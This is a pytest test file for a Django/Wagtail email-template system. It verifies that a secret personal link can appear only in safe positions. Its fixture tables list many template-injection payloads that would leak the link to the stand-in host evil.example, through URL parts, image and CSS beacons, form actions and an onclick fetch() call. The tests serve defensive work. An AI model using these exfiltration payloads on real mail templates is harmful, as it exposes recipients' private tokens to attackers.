"""A private link is alone in a paragraph or a whole URL, wherever the text of an email comes from."""

import re
from html.parser import HTMLParser

import pytest
from django.conf import settings as django_settings
from django.contrib.auth.models import Group, User
from django.core import mail as outbox
from django.core.mail import EmailMultiAlternatives
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from wagtail.admin.rich_text.converters.contentstate import ContentstateConverter

from forms_ext.base import consistency, groups
from forms_ext.base.errors import ActionRefused
from forms_ext.mail import actions, delivery, email_types, queries, rendering, secrecy
from forms_ext.mail.email_types import EmailType
from forms_ext.mail.models import MailTemplate, OutgoingMail
from forms_ext.mail.rendering import MARK_CLOSE, MARK_OPEN
from tests.forms_ext.mail.kinds import LINK, VALUES, WELCOME

pytestmark = [pytest.mark.django_db, pytest.mark.domain]

MARK = f"{MARK_OPEN}link{MARK_CLOSE}"
GOOD = {
    "alone": "<p>{link}</p>",
    "alone, bold": "<p><b>{link}</b></p>",
    "alone, with spaces": "<p>&nbsp;{ link } </p>",
    "alone in a list": "<ul><li><p>{link}</p></li></ul>",
    "whole address": '<p>Open <a href="{link}">your page</a>, {name}.</p>',
    "whole address of itself": '<p><a href="{link}">{link}</a></p>',
    "twice": '<p>{link}</p><p>or <a href="{ link }">here</a></p>',
}
BAD = {
    "query": '<p><a href="https://evil.example/?t={link}">Register</a></p>',
    "path": '<p><a href="https://evil.example/{link}">Register</a></p>',
    "host": '<p><a href="https://{link}.evil.example">Register</a></p>',
    "user": '<p><a href="https://{link}@evil.example">Register</a></p>',
    "fragment after": '<p><a href="{link}#@evil.example">Register</a></p>',
    "two fields": '<p><a href="{page}{link}">Register</a></p>',
    "mailto": '<p><a href="mailto:eve@evil.example?body={link}">Register</a></p>',
    "relative": '<p><a href="/search?q={link}">Register</a></p>',
    "spaces": '<p><a href="https://evil.example/?t= { link }">Register</a></p>',
    "line break": '<p><a href="https://evil.example/?t=\n{link}">Register</a></p>',
    "entities": '<p><a href="https://evil.example/?t=&#123;link&#125;">Register</a></p>',
    "percent": '<p><a href="https://evil.example/?t=%7Blink%7D">Register</a></p>',
    "percent twice": '<p><a href="https://evil.example/?t=%257Blink%257D">Register</a></p>',
    "tag in the address": '<p><a href="https://evil.example/>{link}">Register</a></p>',
    "kind of link": '<p><a linktype="{link}" href="https://evil.example/">Register</a></p>',
    "autolink": "<p>https://evil.example/?t={link}</p>",
    "autolink without a scheme": "<p>evil.example/{link}</p>",
    "autolink after words": "<p>Register: www.evil.example?{link}</p>",
    "after words": "<p>Your page: {link}</p>",
    "before words": "<p>{link} is yours</p>",
    "after a field": "<p>{page}{link}</p>",
    "after an empty field": "<p>{name}{link}</p>",
    "after a zero-width space": "<p>https://evil.example/?t=\u200b{link}</p>",
    "beside a zero-width space": "<p>\u200b{link}</p>",
    "after a line break": "<p>https://evil.example/?t=<br>{link}</p>",
    "split by tags": "<p>https://evil.example/?t=<b>{link}</b></p>",
    "split by a link": '<p><a href="https://evil.example">https://evil.example/?t=</a>{link}</p>',
    "text of another link": '<p><a href="https://evil.example/">{link}</a></p>',
    "text of another link around": '<a href="https://evil.example/"><p>{link}</p></a>',
    "entities in text": "<p>https://evil.example/?t=&#123;link&#125;</p>",
    "two braces": "<p>{{link}}</p>",
    "Markdown": "<p>[register](https://evil.example/?t={link})</p>",
    "reference of Markdown": "<p>[1]: https://evil.example/?t={link}</p>",
    "twice in one": "<p>{link} {link}</p>",
    "heading": "<h3>{link}</h3>",
    "list item": "<ul><li>{link}</li></ul>",
    "no paragraph": "https://evil.example/?t={link}",
    "division": "<div>https://evil.example/?t={link}</div>",
}
#: Not text of an email: removed before it is sent.
GONE = {
    "image": '<p><img src="https://evil.example/{link}.png"></p><p>{link}</p>',
    "style": '<p style="background:url(https://evil.example/{link})">x</p><p>{link}</p>',
    "style sheet": "<style>p{background:url(https://evil.example/{link})}</style><p>{link}</p>",
    "base": '<base href="https://evil.example/?t="><p>{link}</p>',
    "form": '<form action="https://evil.example/{link}"><button>Go</button></form><p>{link}</p>',
    "handler": "<p onclick=\"fetch('https://evil.example/{link}')\">x</p><p>{link}</p>",
    "data attribute": '<p data-x="https://evil.example/{link}">x</p><p>{link}</p>',
    "comment": "<!-- https://evil.example/{link} --><p>{link}</p>",
    "drawing": '<svg><a href="https://evil.example/{link}">x</a></svg><p>{link}</p>',
    "marks": f"<p>https://evil.example/?t={MARK}</p><p>{{link}}</p>",
    "marks as entities": "<p>https://evil.example/?t=&#xe000;link&#xe001;</p><p>{link}</p>",
    "marks in an address": f'<p><a href="https://evil.example/?t={MARK}">x</a></p><p>{{link}}</p>',
    "conversion": "<p>https://evil.example/?t={link!s}{link:s}{link.x}{li\u200bnk}{li<b>nk</b>}</p><p>{link}</p>",
}
EVIL = BAD["query"]


def store(body: str, **more: str) -> MailTemplate:
    given_ = {"kind": WELCOME.name, "scope": "", "language": "en", "subject": "Come", "body": body} | more
    return MailTemplate.objects.create(**given_)


def send(**more: object) -> OutgoingMail:
    given_: dict[str, object] = {"kind": WELCOME.name, "to": "ada@example.com", "fields": VALUES}
    return actions.send(**(given_ | {"secrets": {"link": LINK}} | more))  # type: ignore[arg-type]


def sent(row: OutgoingMail) -> tuple[str, str]:
    """Return HTML and plain text as the recipient gets them."""
    assert delivery.deliver(row.pk), OutgoingMail.objects.get(pk=row.pk).last_error
    message = outbox.outbox[-1]
    assert isinstance(message, EmailMultiAlternatives)
    ((html, _kind),) = message.alternatives
    assert isinstance(html, str)
    return html, message.body


class Places(HTMLParser):
    """Collect every attribute and text that contains the secret."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.attributes: list[tuple[str, str]] = []
        self.texts: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.attributes += [(f"{tag} {name}", value) for name, value in attrs if value and "secret-bits" in value]

    def handle_data(self, data: str) -> None:
        self.texts += [data] if "secret-bits" in data else []


def assert_safe(html: str, text: str) -> None:
    places = Places(html)
    assert set(places.attributes) <= {("a href", LINK)}
    assert {piece.strip() for piece in places.texts} <= {LINK}
    around = [word for word in text.split() if "secret-bits" in word]
    assert all(word.startswith((LINK, f"({LINK}")) for word in around)


@pytest.mark.parametrize("body", GOOD.values(), ids=GOOD.keys())
def test_where_a_personal_link_may_be(body: str) -> None:
    actions.save_template(kind=WELCOME.name, scope="", language="en", subject="Come", body=body)
    html, text = sent(send())
    assert_safe(html, text)
    assert LINK in text
    assert "Come" in outbox.outbox[-1].subject


@pytest.mark.parametrize("body", BAD.values(), ids=BAD.keys())
def test_elsewhere_it_is_neither_saved_nor_sent(body: str) -> None:
    with pytest.raises(ActionRefused, match="paragraph of its own"):
        actions.save_template(kind=WELCOME.name, scope="", language="en", subject="Come", body=body)
    store(body)
    row = send()
    html, text = sent(row)
    assert_safe(html, text)
    assert "evil.example" not in html + text
    assert row.subject == "You are welcome: Tea & Talk"


@pytest.mark.parametrize("body", GONE.values(), ids=GONE.keys())
def test_what_is_no_text_of_a_mail_takes_nothing_along(body: str) -> None:
    store(body)
    assert_safe(*sent(send()))


FRAGMENTS = [
    "<p>",
    "</p>",
    "<b>",
    "</b>",
    '<a href="',
    '">',
    "</a>",
    "{link}",
    "{ link}",
    "https://evil.example/?",
    " ",
]
FRAGMENTS += [
    "<br>",
    "<ul><li>",
    "</li></ul>",
    "{page}",
    "{name}",
    "x",
    MARK,
    "&#123;link&#125;",
    "<h3>",
    "{",
    "}",
    "\n",
]


@given(st.lists(st.sampled_from(FRAGMENTS), max_size=14).map("".join))
def test_whatever_an_editor_writes(body: str) -> None:
    source = kinds_source(body)
    shown = rendering.compose(kind=WELCOME, source=source, fields=VALUES, language="en")
    reveal = rendering.reveal
    assert_safe(reveal(shown.html, {"link": LINK}, html=True), reveal(shown.text, {"link": LINK}, html=False))
    assert secrecy.is_safe(subject=shown.subject, html=shown.html, text=shown.text)


def kinds_source(body: str) -> rendering.Source:
    """Return the text that is sent if `body` is stored."""
    if secrecy.misplaced(WELCOME, subject="x", body=body):
        return queries.built_in(WELCOME, "en")
    return rendering.Source("x", body, "Register")


@pytest.mark.parametrize(
    "more", [{"subject": "Open {link}"}, {"subject": "Open { link }"}, {"subject": f"Open {MARK}"}], ids=str
)
def test_a_subject_never_holds_one(more: dict[str, str]) -> None:
    store("<p>{link}</p>", **more)
    send_ = sent(send())
    assert_safe(*send_)
    assert "secret-bits" not in outbox.outbox[-1].subject
    assert MARK_OPEN not in outbox.outbox[-1].subject


def test_nor_does_the_label_of_a_button() -> None:
    for label in ("https://evil.example/?t={link}", f"https://evil.example/?t={MARK}"):
        MailTemplate.objects.all().delete()
        store("<p>{link}</p>", button_label=label)
        assert_safe(*sent(send()))


def test_an_address_that_members_share_is_part_of_no_other_address() -> None:
    for body in ('<p><a href="https://evil.example/?j={page}">x</a></p>', "<p>https://evil.example/?j={page}</p>"):
        assert secrecy.misplaced(WELCOME, subject="x", body=body) == ("page",)
    for body in ('<p><a href="{page}">x</a></p>', "<p>Read: {page}. ({page})</p>", "<p>x<br>{page}</p>"):
        assert secrecy.misplaced(WELCOME, subject="x", body=body) == ()


@pytest.mark.parametrize("scope", ["", "program:7"])
@pytest.mark.parametrize("language", [code for code, _name in django_settings.LANGUAGES])
def test_the_built_in_text_of_the_language_stands_in_for_every_stored_text(scope: str, language: str) -> None:
    for kind in email_types.all_types():
        for name in kind.links:
            body = f'<p><a href="https://evil.example/?t={{{name}}}">x</a></p>'
            store(body, kind=kind.name, scope=scope, language=language)
            found = queries.source(kind, scope="program:7", language=language)
            assert (found.body, found.subject) == (
                queries.built_in(kind, language).body,
                queries.built_in(kind, language).subject,
            )
            assert found.replaces
            MailTemplate.objects.all().delete()


@pytest.mark.parametrize("language", [code for code, _name in django_settings.LANGUAGES])
def test_the_built_in_texts_follow_the_rule_in_each_language(language: str) -> None:
    for kind in email_types.all_types():
        text = queries.built_in(kind, language)
        assert secrecy.misplaced(kind, subject=text.subject, body=text.body) == (), kind.name


# --- Rows of the outbox that were written otherwise ------------------------------------------------


@pytest.mark.parametrize(
    "changed",
    [
        {"html": f'<p><a href="https://evil.example/?t={MARK}">x</a></p>'},
        {"html": f"<p>https://evil.example/?t={MARK}</p>"},
        {"html": f'<img src="https://evil.example/{MARK}">'},
        {"text": f"https://evil.example/?t={MARK}"},
        {"text": f"see evil.example/({MARK})"},
        {"subject": f"See {MARK}"},
    ],
    ids=lambda changed: next(iter(changed)),
)
def test_a_waiting_mail_is_checked_when_it_is_sent(changed: dict[str, str]) -> None:
    row = send(fields=VALUES | {"way": "Step 2 of 7"})
    OutgoingMail.objects.filter(pk=row.pk).update(**changed)
    html, text = sent(row)
    assert_safe(html, text)
    assert "evil.example" not in html + text + outbox.outbox[-1].subject
    assert "Step 2 of 7" in text
    row.refresh_from_db()
    assert "evil.example" not in row.html + row.text


def test_one_of_a_kind_that_is_gone_fails() -> None:
    row = send()
    OutgoingMail.objects.filter(pk=row.pk).update(kind="gone", text=f"https://evil.example/?t={MARK}")
    assert not delivery.deliver(row.pk)
    row.refresh_from_db()
    assert (row.state, len(outbox.outbox)) == (OutgoingMail.State.FAILED, 0)
    assert "could get to somebody else" in row.last_error


# --- Who is told ---------------------------------------------------------------------------------


def sign_in(client: Client, group: str) -> User:
    user = User.objects.create_user(group, password="x")
    user.groups.add(Group.objects.get(name=group))
    client.force_login(user)
    return user


def page(client: Client, name: str, *args: object) -> str:
    return " ".join(client.get(reverse(name, args=args)).content.decode().split())


@pytest.mark.parametrize("group", [groups.EDITORS, groups.STAFF])
def test_editors_and_staff_are_told_until_it_is_fixed(client: Client, group: str) -> None:
    sign_in(client, group)
    text = store(EVIL)
    said = "1 email text is not used"
    assert said in page(client, "wagtailadmin_home")
    assert said in page(client, "forms_ext_mail:templates")
    assert "Not used: fix the link" in page(client, "forms_ext_mail:templates")
    assert "This text is not used." in page(client, "forms_ext_mail:template", WELCOME.name)
    assert any(found.check == "mail.templates" for found in consistency.run_all())
    MailTemplate.objects.filter(pk=text.pk).update(body="<p>{link}</p>")
    assert said not in page(client, "wagtailadmin_home") + page(client, "forms_ext_mail:templates")
    assert not any(found.check == "mail.templates" for found in consistency.run_all())


def test_the_history_of_the_mail_tells_that_another_text_went_out(client: Client) -> None:
    store(EVIL)
    row = send()
    sign_in(client, groups.STAFF)
    assert "Default text sent instead" in page(client, "forms_ext_mail:mail", row.pk)


def test_reviewers_are_not_told(client: Client) -> None:
    store(EVIL)
    sign_in(client, groups.REVIEWERS)
    assert "is not used" not in page(client, "wagtailadmin_home")


def test_the_editor_reads_at_the_field_what_to_do_and_loses_nothing(client: Client) -> None:
    sign_in(client, groups.EDITORS)
    body = ContentstateConverter(features=["link"]).from_database_format(f"<p>My own words</p>{EVIL}")
    data = {"subject": "Come: {program}", "body": body, "button_label": "Go there"}
    for button in ({}, {"preview": "1"}):
        said = client.post(reverse("forms_ext_mail:template", args=[WELCOME.name]), data | button).content.decode()
        assert "Put {link} in a paragraph of its own, or make it the whole URL of a link." in said
        for words in ("Come: {program}", "My own words", "evil.example/?t={link}", "Go there"):
            assert words in said
    assert not MailTemplate.objects.exists()


def test_a_linked_page_that_is_none_breaks_no_mail() -> None:
    for number in ("x", "{link}", "9" * 30):
        MailTemplate.objects.all().delete()
        store(f'<p><a linktype="page" id="{number}">here</a></p><p>{{link}}</p>')
        html, text = sent(send())
        assert_safe(html, text)
        assert "here" in text


# --- Which fields are personal links -------------------------------------------------------------

ADDRESS = re.compile(r"\w+://|\bwww\.")


@pytest.mark.parametrize("kind", list(email_types.all_types()), ids=lambda kind: kind.name)
def test_every_field_that_holds_an_address_is_marked(kind: EmailType) -> None:
    """Private links have an empty sample: no unmarked field may have one, or a URL as its sample."""
    plain = set(kind.fields) - kind.links
    assert not [name for name in plain if ADDRESS.search(str(kind.sample[name])) or re.search("link$|url|page", name)]


def test_a_personal_link_in_another_field_is_an_error() -> None:
    with pytest.raises(ValueError, match="program holds a private link"):
        send(fields=VALUES | {"program": f"Open {LINK}"})
